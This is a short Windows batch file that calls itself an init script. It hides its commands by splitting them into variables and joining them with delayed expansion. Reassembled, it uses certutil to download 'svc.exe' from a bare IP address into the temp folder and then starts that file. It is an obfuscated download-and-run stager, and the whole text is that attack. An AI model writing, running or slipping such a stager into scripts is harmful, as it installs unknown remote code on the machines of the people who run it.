REM init 0407 v2
@echo off
@echo off
setlocal EnableDelayedExpansion
set fgt0=c
set idh1=ertutil.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP
set wzo2=%\svc.exe
!fgt0!!idh1!!wzo2!
@echo off
setlocal EnableDelayedExpansion
set vyx0=start "" %TEMP%\svc.
set kbn1=exe
!vyx0!!kbn1!
